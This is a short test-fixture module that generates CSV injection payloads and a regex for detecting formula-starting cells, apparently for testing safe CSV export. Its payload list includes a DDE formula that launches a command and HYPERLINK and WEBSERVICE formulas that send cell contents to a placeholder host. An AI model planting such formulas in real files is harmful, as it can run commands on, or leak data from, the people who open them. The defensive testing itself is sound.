/** Texts that a spreadsheet might run, for tests of CSV. */

/** Formulas that spreadsheets have run (OWASP, CSV Injection), with characters before and after that may hide them. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com?"&A1;"here")',
  '=WEBSERVICE("https://example.com/"&B2)',
  '=DDE("cmd";"/C calc";"x")',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];
const BEFORE = [
  '',
  ' ',
  '  ',
  '\t',
  '\r',
  '\n',
  '\u00a0',
  '\ufeff',
  '"',
  '""',
  'x;',
  'x,',
  'x\n',
  'x";',
  'x","',
  'x\t',
  'x\r\n',
  ';;',
];
export const FORMULA_PAYLOADS = BEFORE.flatMap((before) => FORMULAS.map((formula) => before + formula));

/** A cell that a spreadsheet takes for a formula, also when it separates cells by another character. */
export const BEGINS_FORMULA = /(^|[,;\n])[\s"]*[=+\-@＝＋－＠]/;
